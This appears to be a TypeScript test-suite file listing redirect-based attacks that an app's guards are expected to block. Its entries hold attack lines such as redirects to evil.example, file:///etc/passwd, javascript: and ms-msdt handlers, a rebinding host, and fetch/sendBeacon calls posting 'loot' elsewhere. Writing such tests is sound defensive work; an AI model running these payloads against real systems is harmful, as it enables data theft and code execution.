/** Being sent elsewhere by a response of the service, after the address was judged. */
import type { Area, Attack } from '../attack.ts'
import { click, loads, refusedBy } from './scripts.ts'

export const redirects: Area = {
  title: 'Redirects',
  about:
    'The address that is asked for is the service’s; its answer names another one. Each hop is judged like a first address.',
  by: 'signing page',
  guard: ['ground', 'request'],
  sharesTurns: true,
  attacks: [
    ...[301, 302, 303, 307, 308].map(
      (code): Attack => ({
        name: `be sent elsewhere by the service (${code})`,
        script: `location = "/redirect/${code}?to=http://{elsewhere}/"`,
        message: 'unencrypted'
      })
    ),
    {
      name: 'be sent elsewhere in two steps',
      script: 'location = "/redirect/302?to=" + encodeURIComponent("/redirect/302?to=http://{elsewhere}/")',
      message: 'unencrypted'
    },
    {
      name: 'be sent elsewhere by a header that refreshes',
      script: 'location = "/refresh?to=http://{elsewhere}/"',
      mayEndItself: true,
      message: 'unencrypted'
    },
    {
      name: 'be sent to a public host',
      script: 'location = "/redirect/302?to=https://evil.example/"',
      message: 'evil.example'
    },
    {
      name: 'be sent to an address without a scheme',
      script: 'location = "/redirect/302?to=//{elsewhere}/"',
      message: 'unencrypted'
    },
    {
      name: 'be sent to a log-in at the service itself',
      script: 'location = "/redirect/302?to=http://ana:pw@127.0.0.1:{port}/loot"',
      message: 'log in',
      neverAsked: '/loot'
    },
    {
      name: 'be sent to a file',
      script: 'location = "/redirect/302?to=file:///etc/passwd"',
      guard: ['browser'],
      mayEndItself: true
    },
    {
      name: 'be sent to our own pages',
      script: 'location = "/redirect/302?to=app://countersign/index.html"',
      guard: ['browser'],
      mayEndItself: true
    },
    {
      name: 'be sent to data',
      script: 'location = "/redirect/302?to=data:text/html,bank"',
      guard: ['browser'],
      mayEndItself: true
    },
    {
      name: 'be sent to a script',
      script: 'location = "/redirect/302?to=javascript:alert(1)"',
      guard: ['browser'],
      mayEndItself: true
    },
    {
      name: 'be sent to a program of the system',
      script: 'location = "/redirect/302?to=ms-msdt:/id%2520PCWDiagnostic"',
      guard: ['browser'],
      mayEndItself: true
    },
    {
      name: 'be sent elsewhere with a form’s data',
      ...click(
        '<form action="/redirect/307?to=http://{elsewhere}/" method=post><input name=pin value=1><button id=go>go</button></form>'
      ),
      message: 'unencrypted'
    },
    {
      name: 'be sent in circles for ever',
      script: 'location = "/circle"',
      guard: ['browser'],
      contained: 'The browser gives up after some steps; the turn fails and offers a way on.',
      mayEndItself: true
    },
    {
      name: 'send a frame elsewhere',
      page: '<iframe id=f></iframe>',
      script: 'document.getElementById("f").src = "/redirect/302?to=http://{elsewhere}/"',
      message: 'unencrypted'
    },
    {
      name: 'send a picture elsewhere',
      script: loads('img', 'e.src = "/redirect/302?to=http://{elsewhere}/"'),
      guard: ['request'],
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'send a script elsewhere',
      script: loads('script', 'e.src = "/redirect/302?to=http://{elsewhere}/"'),
      guard: ['request'],
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'send a style elsewhere',
      script: loads('link', 'e.rel = "stylesheet"; e.href = "/redirect/302?to=http://{elsewhere}/"'),
      guard: ['request'],
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'send a question of its script elsewhere',
      script: refusedBy(
        'await fetch("/redirect/307?to=http://{elsewhere}/", { method: "POST", body: "loot", mode: "no-cors" })'
      ),
      guard: ['policy', 'request'],
      answers: 'refused'
    },
    {
      name: 'send a picture into the office, encrypted',
      script: loads('img', 'e.src = "/redirect/302?to=https://{elsewhere}/"'),
      guard: ['private'],
      answers: 'refused',
      message: 'private network'
    },
    {
      name: 'send a picture to a name that leads into the office',
      script: loads('img', 'e.src = "/redirect/302?to=https://rebind.example/"'),
      guard: ['private'],
      answers: 'refused',
      message: 'private network (rebind.example)'
    },
    {
      name: 'send a last word elsewhere',
      script:
        'navigator.sendBeacon("/redirect/307?to=http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))',
      guard: ['policy', 'request']
    },
    {
      name: 'send a saved file elsewhere',
      ...click('<a id=go download="run.exe" href="/redirect/302?to=http://{elsewhere}/">go</a>'),
      guard: ['request'],
      mayEndItself: true
    }
  ]
}
